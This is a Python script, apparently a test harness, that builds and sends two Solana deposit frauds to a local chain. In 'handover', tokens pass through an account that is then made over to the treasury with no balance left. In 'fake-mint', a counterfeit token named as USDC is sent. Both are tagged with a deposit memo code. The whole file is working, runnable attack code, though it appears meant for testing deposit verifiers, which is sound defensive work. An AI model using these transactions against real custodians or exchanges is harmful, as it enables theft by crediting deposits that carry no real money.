"""Two frauds that naive verifiers credit, sent to the local chain; prints the signature.

    fraud.py handover URL KEYFILE TREASURY MINT CODE
    fraud.py fake-mint URL KEYFILE TREASURY MINT CODE

handover   One transaction pays 5 USDC into an account of the attacker, takes them out again, and
           makes the empty account over to the treasury: there is a transfer into an account that
           the treasury owns afterwards, and no money. Case E03 of the catalogue; by such a
           transaction a custodian was robbed in 2026.
fake-mint  Anybody can make a token, give it six decimals and call it USDC. Case C01.
"""

import json
import sys
import time
from base64 import b64encode
from pathlib import Path

from rpc import call
from solders.hash import Hash
from solders.instruction import AccountMeta, Instruction
from solders.keypair import Keypair
from solders.message import Message
from solders.pubkey import Pubkey
from solders.system_program import CreateAccountParams, create_account
from solders.token.associated import get_associated_token_address
from solders.transaction import Transaction

TOKEN = Pubkey.from_string("TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA")
ASSOCIATED = Pubkey.from_string("ATokenGPvbdGVxr1b2hvZbsiqW5xWH25efTNsLJA8knL")
SYSTEM = Pubkey.from_string("11111111111111111111111111111111")
MEMO = Pubkey.from_string("MemoSq4gqABAXKb96qnH8TysNcWxMyWCqXgDLGmfcHr")
AMOUNT = 5_000_000
ACCOUNT_SIZE, MINT_SIZE = 165, 82


def main() -> None:
    kind, url, keyfile, treasury, mint, code = sys.argv[1:]
    attacker = Keypair.from_bytes(bytes(json.loads(Path(keyfile).read_text())))
    treasury, mint = Pubkey.from_string(treasury), Pubkey.from_string(mint)
    make = {"handover": handover, "fake-mint": fake_mint}[kind]
    instructions, signers = make(url, attacker, treasury, mint)
    instructions.insert(0, memo(f"deposit:{code}", attacker.pubkey()))
    print(send(url, attacker, instructions, signers))


def handover(url, attacker, treasury, mint):
    owner = attacker.pubkey()
    own, empty = get_associated_token_address(owner, mint), Keypair()
    return [
        create_token_account(url, owner, empty.pubkey()),
        token([18, *bytes(owner)], [(empty.pubkey(), "w"), (mint, "")]),
        transfer_checked(own, mint, empty.pubkey(), owner),
        transfer_checked(empty.pubkey(), mint, own, owner),
        # SetAuthority, type 2: the account's owner.
        token([6, 2, 1, *bytes(treasury)], [(empty.pubkey(), "w"), (owner, "s")]),
    ], [attacker, empty]


def fake_mint(url, attacker, treasury, _):
    owner, fake = attacker.pubkey(), Keypair()
    own = get_associated_token_address(owner, fake.pubkey())
    theirs = get_associated_token_address(treasury, fake.pubkey())
    rent = call(url, "getMinimumBalanceForRentExemption", MINT_SIZE)
    return [
        create_account(
            CreateAccountParams(
                from_pubkey=owner,
                to_pubkey=fake.pubkey(),
                lamports=rent,
                space=MINT_SIZE,
                owner=TOKEN,
            )
        ),
        token([20, 6, *bytes(owner), 0], [(fake.pubkey(), "w")]),
        create_associated(owner, own, owner, fake.pubkey()),
        create_associated(owner, theirs, treasury, fake.pubkey()),
        token(
            [7, *AMOUNT.to_bytes(8, "little")],
            [(fake.pubkey(), "w"), (own, "w"), (owner, "s")],
        ),
        transfer_checked(own, fake.pubkey(), theirs, owner),
    ], [attacker, fake]


def memo(text, signer):
    return Instruction(MEMO, text.encode(), [AccountMeta(signer, True, False)])


def token(data, accounts):
    metas = [AccountMeta(key, "s" in role, "w" in role) for key, role in accounts]
    return Instruction(TOKEN, bytes(data), metas)


def transfer_checked(source, mint, destination, owner):
    accounts = [(source, "w"), (mint, ""), (destination, "w"), (owner, "s")]
    return token([12, *AMOUNT.to_bytes(8, "little"), 6], accounts)


def create_token_account(url, payer, account):
    rent = call(url, "getMinimumBalanceForRentExemption", ACCOUNT_SIZE)
    return create_account(
        CreateAccountParams(
            from_pubkey=payer,
            to_pubkey=account,
            lamports=rent,
            space=ACCOUNT_SIZE,
            owner=TOKEN,
        )
    )


def create_associated(payer, account, owner, mint):
    accounts = [
        AccountMeta(payer, True, True),
        AccountMeta(account, False, True),
        *[AccountMeta(key, False, False) for key in (owner, mint, SYSTEM, TOKEN)],
    ]
    return Instruction(ASSOCIATED, b"\x01", accounts)


def send(url, payer, instructions, signers):
    latest = call(url, "getLatestBlockhash", {"commitment": "finalized"})["value"]
    blockhash = Hash.from_string(latest["blockhash"])
    message = Message.new_with_blockhash(instructions, payer.pubkey(), blockhash)
    transaction = Transaction(signers, message, blockhash)
    encoded = b64encode(bytes(transaction)).decode()
    signature = call(url, "sendTransaction", encoded, {"encoding": "base64"})
    wait_until_final(url, signature)
    return signature


def wait_until_final(url, signature):
    for _ in range(300):
        status = call(url, "getSignatureStatuses", [signature])["value"][0]
        if status and status["confirmationStatus"] == "finalized":
            if status["err"] is not None:
                raise SystemExit(f"the fraud failed on chain: {status['err']}")
            return
        time.sleep(0.1)
    raise SystemExit("the fraud was not final after 30 s")


if __name__ == "__main__":
    main()
